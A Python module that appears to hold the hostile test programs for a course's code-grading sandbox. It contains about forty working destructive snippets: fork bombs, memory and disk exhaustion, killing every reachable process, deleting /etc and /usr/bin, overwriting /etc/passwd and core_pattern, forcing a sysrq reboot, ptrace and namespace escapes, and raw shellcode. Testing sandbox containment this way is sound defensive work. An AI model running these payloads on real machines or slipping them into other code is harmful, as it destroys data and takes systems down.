"""Attacks on the machine, the run and the other students."""

from __future__ import annotations

ATTACKS: dict[str, str] = {
    "fork bomb": """
import os, time
print("ARMED", flush=True)
try:
    for _ in range(3000):
        if os.fork() == 0: time.sleep(300); os._exit(0)
except OSError as error: print(error)
""",
    "all memory in one process": """
print("ARMED", flush=True)
hoard = []
while True: hoard.append(bytearray(b"x" * (32 << 20)))
""",
    "memory over many processes": """
import os, time
print("ARMED", flush=True)
for _ in range(12):
    if os.fork() == 0:
        hoard = bytearray(b"x" * (150 << 20)); time.sleep(300); os._exit(0)
time.sleep(3)
""",
    "memory in anonymous files": """
import os
print("ARMED", flush=True)
try:
    fd = os.memfd_create("hoard")
    for _ in range(200): os.write(fd, b"x" * (16 << 20))
    print("WROTE ALL")
except OSError as error: print(error)
""",
    "shared memory filled": """
print("ARMED", flush=True)
try:
    with open("/dev/shm/hoard", "wb") as file:
        for _ in range(200): file.write(b"x" * (16 << 20))
    print("WROTE ALL")
except OSError as error: print(error)
""",
    "disk filled": """
print("ARMED", flush=True)
try:
    for number in range(400):
        with open(f"/tmp/hoard{number}", "wb") as file: file.write(b"x" * (16 << 20))
    print("WROTE ALL")
except OSError as error: print(error)
""",
    "a million small files": """
print("ARMED", flush=True)
import time
end = time.time() + 3
n = 0
try:
    while time.time() < end:
        open(f"/tmp/f{n}", "w").close(); n += 1
except OSError as error: print(error)
""",
    "endless loop": 'print("ARMED", flush=True)\nwhile True: pass',
    "endless loop in C": 'print("ARMED", flush=True)\nimport itertools\nsum(itertools.count())',
    "interrupts ignored": """
import signal, time
print("ARMED", flush=True)
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try: time.sleep(100)
    except BaseException: pass
""",
    "catches every exception": """
print("ARMED", flush=True)
while True:
    try:
        while True: pass
    except BaseException: pass
""",
    "stops itself": 'import os, signal\nprint("ARMED", flush=True)\nos.kill(os.getpid(), signal.SIGSTOP)',
    "kills all it can": """
import os, signal
print("ARMED", flush=True)
for pid in [1, os.getppid(), -1, *range(2, 100)]:
    try: os.kill(pid, signal.SIGKILL)
    except OSError: pass
""",
    "closes its channel": 'import os\nprint("ARMED", flush=True)\nos.closerange(3, 200)',
    "raw output flood": """
import os
print("ARMED", flush=True)
for _ in range(3000): os.write(1, b"flood " * 20_000)
""",
    "display flood": """
from IPython.display import display
print("ARMED", flush=True)
for number in range(20_000): display("x" * 10_000)
""",
    "daemon that outlives the run": """
import os, time
print("ARMED", flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            try: os.close(fd)
            except OSError: pass
        os.execlp("sleep", "sleep", "{daemon_seconds}")
    os._exit(0)
""",
    "files outside deleted": """
import os, shutil
print("ARMED", flush=True)
for path in ("{canary}", "{submissions}", "{bundle}", "/usr/bin", "/etc"):
    try: os.remove(path)
    except OSError as error: print(error)
    shutil.rmtree(path, ignore_errors=True)
""",
    "files outside overwritten": """
print("ARMED", flush=True)
for path in ("{canary}", "{bundle}/hidden.py", "/usr/mlcourse-was-here", "/etc/passwd", "/proc/sys/kernel/core_pattern"):
    try: open(path, "w").write("owned")
    except OSError as error: print(error)
""",
    "network": """
import socket
print("ARMED", flush=True)
targets = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", {port})), (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", {port}))]
for family, kind, address in targets:
    try:
        s = socket.socket(family, kind); s.settimeout(1); s.connect(address); s.send(b"hello from the box"); print("SENT", kind)
    except OSError as error: print(error)
try:
    s = socket.socket(socket.AF_UNIX); s.connect("\\0{abstract}"); s.send(b"hello from the box")
except OSError as error: print(error)
""",
    "limits and priorities of others": """
import os, resource, signal
print("ARMED", flush=True)
others = {os.getppid(), {grader}, *range(2, 200)}
for other in others - {os.getpid()}:
    for attempt in (
        lambda: resource.prlimit(other, resource.RLIMIT_CPU, (1, 1)),
        lambda: os.setpriority(os.PRIO_PROCESS, other, 19),
        lambda: os.sched_setaffinity(other, {0}),
        lambda: signal.pidfd_send_signal(os.pidfd_open(other), signal.SIGKILL),
    ):
        try: attempt()
        except OSError: pass
""",
    "modes and owners of files outside": """
import os
print("ARMED", flush=True)
for path in ("{canary}", "{bundle}/hidden.py", "{submissions}", "{out}", os.path.expanduser("~")):
    for attempt in (
        lambda: os.chmod(path, 0), lambda: os.chown(path, 65534, 65534), lambda: os.utime(path, (1, 1)),
        lambda: os.setxattr(path, "user.left-by", b"LEFTOVER"), lambda: os.truncate(path, 0),
    ):
        try: attempt()
        except OSError: pass
""",
    "namespaces and tracing": """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("ARMED", flush=True)
for flag in (0x10000000, 0x00020000, 0x40000000): print("UNSHARED" if libc.unshare(flag) == 0 else "refused")
print("TRACED" if libc.ptrace(16, os.getppid(), 0, 0) == 0 else "refused")
print("MOUNTED" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "refused")
""",
    "deep recursion": """
import sys
print("ARMED", flush=True)
sys.setrecursionlimit(10**9)
def down(n): return down(n + 1)
down(0)
""",
    "segmentation fault": 'import ctypes\nprint("ARMED", flush=True)\nctypes.string_at(0)',
    "many spinning processes": r"""
import os, time
print("ARMED", flush=True)
end = time.time() + 2
for _ in range(55):
    try:
        if os.fork() == 0:
            os.setsid()  # each a group of its own to a scheduler that is fair to sessions
            while time.time() < end: pass
            os._exit(0)
    except OSError as error: print(error); break
""",
    "watches, events and timers, all there are": r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
made = {}
def many(name, make):
    held = []
    try:
        while len(held) < 100_000 and (one := make()) >= 0: held.append(one)
    except OSError: pass
    made[name] = len(held), os.strerror(ctypes.get_errno())
    for one in held: os.close(one)
many("inotify", lambda: libc.inotify_init())
many("eventfd", lambda: libc.eventfd(0, 0))
many("timerfd", lambda: libc.timerfd_create(1, 0))
many("epoll", lambda: libc.epoll_create1(0))
print("ARMED", made)
""",
    "memory in sockets": r"""
import os, socket, time
print("ARMED", flush=True)
total, held = 0, []
try:
    server = socket.create_server(("127.0.0.1", 0), backlog=500)
    for _ in range(200):
        a = socket.create_connection(server.getsockname()); b, _ = server.accept()
        for one in (a, b):
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20); one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        a.setblocking(False); held.append((a, b))
        try:
            while True: total += a.send(b"x" * (1 << 20))
        except BlockingIOError: pass
except OSError as error: print(error)
print("HELD", total >> 20, "MB", open("/proc/net/sockstat").read())
time.sleep(0.1)
""",
    "memory in pipes and unix sockets": r"""
import fcntl, os, socket, time
print("ARMED", flush=True)
total, held = 0, []
try:
    while True:
        r, w = os.pipe(); held += [r, w]
        try: fcntl.fcntl(w, 1031, 1 << 20)
        except OSError: pass
        os.set_blocking(w, False)
        try:
            while True: total += os.write(w, b"x" * (1 << 16))
        except BlockingIOError: pass
except OSError as error: print(error)
print("HELD", total >> 20, "MB")
""",
    "descriptors in flight": r"""
import array, os, socket
print("ARMED", flush=True)
pairs, sent = [], 0
try:
    while len(pairs) < 200:
        a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); pairs.append((a, b))
        for _ in range(10):
            a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 250))], socket.MSG_DONTWAIT); sent += 250
except OSError as error: print(error)
print(sent)
""",
    "names, links and attributes in place of contents": r"""
import os, time
print("ARMED", flush=True)
end, n = time.time() + 1, 0
try:
    os.makedirs("/tmp/deep", exist_ok=True)
    while time.time() < end:
        os.symlink("x" * 4000, f"/tmp/deep/{'n' * 200}{n}"); n += 1
        try: os.setxattr(f"/tmp", f"user.a{n}", b"x" * 60_000)
        except OSError: pass
except OSError as error: print(n, error)
""",
    "folders nested ten thousand deep": r"""
import os
print("ARMED", flush=True)
os.chdir("/tmp")
try:
    for _ in range(10_000): os.mkdir("d"); os.chdir("d")
except OSError as error: print(error)
""",
    "numbers and patterns that take for ever in C": r"""
import re, threading
print("ARMED", flush=True)
threading.Thread(target=lambda: 7 ** (10 ** 9), daemon=True).start()
re.match("(a+)+$", "a" * 60 + "b")
""",
    "depth in C": r"""
import json, pickle, copy, ast
print("ARMED", flush=True)
deep = []
for _ in range(1_000_000): deep = [deep]
for action in (repr, json.dumps, copy.deepcopy, pickle.dumps, hash, lambda d: d == [d]):
    try: action(deep)
    except (RecursionError, TypeError, MemoryError) as error: print(type(error).__name__)
mean_reading = deep
""",
    "everything stopped by everybody": r"""
import os, signal, threading, time
print("ARMED", flush=True)
def standardise(X):
    os.kill(0, signal.SIGSTOP)
    return X
def predict(X):
    os.kill(-1, signal.SIGSTOP); return X
""",
    "tasks with names that steer terminals": r"""
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.prctl(15, b"\x1b[2J) R 1\n", 0, 0, 0)
print("ARMED", flush=True)
for _ in range(20):
    if os.fork() == 0: libc.prctl(15, b"\n0 (x) Z 0\n", 0, 0, 0); time.sleep(5); os._exit(0)
time.sleep(1)
""",
    "two hundred thousand marks in the text": r"""
import sys
from mlcourse.box.agent.streams import Tape
token = sys.stdout._tape.token
print("ARMED", flush=True)
import os
mark = f"\0{token}:c\0\0{token}:e\0x\0{token}:999999999\0".encode()
for _ in range(20): os.write(1, mark * 700)
print("ARMED", flush=True)
""",
    "sixty pictures of sixteen million pixels": r"""
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
def picture(n):
    rows = zlib.compress(b"\0" * 4001 * 3999, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4000, 3999, 8, 0, 0, 0, 0)) + chunk(b"tEXt", b"n\0%d" % n) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
print("ARMED")
one = picture(0)
for n in range(3): display({"image/png": base64.b64encode(picture(n)).decode()}, raw=True)
""",
    "calls in the 32-bit and x32 fashion": r"""
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
print("x32", libc.syscall(0x40000000 + 39), os.strerror(ctypes.get_errno()))
print("ARMED", flush=True)
if os.fork() == 0:
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(bytes.fromhex("b814000000cd80c3"))  # mov eax, 20 (getpid of i386); int 0x80; ret
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    print("GATE32", call(), flush=True); os._exit(0)
print(os.wait())
""",
    "rewriting programs through descriptors": r"""
import os
print("ARMED")
for path in ("/proc/self/exe", "/proc/1/exe", "/usr/bin/env", "/opt/mlcourse/mlcourse/__init__.py", "/etc/passwd", "/etc/ld.so.cache"):
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_PATH):
        try:
            fd = os.open(path, flags)
            try: os.write(os.open(f"/proc/self/fd/{fd}", os.O_WRONLY), b"owned"); print("WROTE", path)
            except OSError as error: print(path, error.strerror)
        except OSError as error: print(path, error.strerror)
for path in ("/usr/bin/x", "/opt/mlcourse/x", "/x", "/dev/x", "/proc/x", "/etc/x"):
    for make in (lambda: os.mkdir(path), lambda: os.symlink("/", path), lambda: os.link("/usr/bin/env", path), lambda: os.mknod(path)):
        try: make(); print("WROTE", path)
        except OSError: pass
""",
    "terminals": r"""
import fcntl, os, pty
print("ARMED")
for path in ("/dev/tty", "/dev/console", "/dev/tty0", "/proc/1/fd/0", "/proc/1/fd/1"):
    try: print(path, os.open(path, os.O_RDWR | os.O_NOCTTY))
    except OSError as error: print(path, error.strerror)
for request in (0x5412, 0x541C, 0x541D, 0x540E):
    for fd in (0, 1, 2):
        try: fcntl.ioctl(fd, request, b"x"); print("TOOK OVER", hex(request), fd)
        except OSError as error: print(hex(request), fd, error.strerror)
many = []
try:
    while len(many) < 400: many.append(pty.openpty())
except OSError as error: print(len(many), error.strerror)
""",
    "priorities, limits and the killer's score": r"""
import os, resource
print("ARMED")
def put(path, text): return os.write(os.open(path, os.O_WRONLY), text)
def raised(name, action):
    try: action(); print("RAISED", name)
    except (OSError, ValueError) as error: print(name, error)
raised("nice", lambda: os.nice(-10))
raised("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)))
for path, text in (("/proc/self/oom_score_adj", b"-1000"), ("/proc/self/autogroup", b"-20"), ("/proc/sys/kernel/core_pattern", b"|/bin/sh"), ("/proc/sysrq-trigger", b"b")):
    raised(path, lambda: put(path, text))
for name in ("RLIMIT_AS", "RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_CORE", "RLIMIT_CPU"):
    raised(name, lambda: resource.setrlimit(getattr(resource, name), (-1, -1)))
""",
    "asynchronous requests to the kernel": r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
print("ARMED")
one = ctypes.c_ulong(0)
if libc.syscall({io_setup}, 4096, ctypes.byref(one)) == 0: print("RAISED", "requests")
""",
    "a chain of ten thousand calls": 'print("ARMED")\nexec("def unused(): a" + "()" * 20_000)',
}
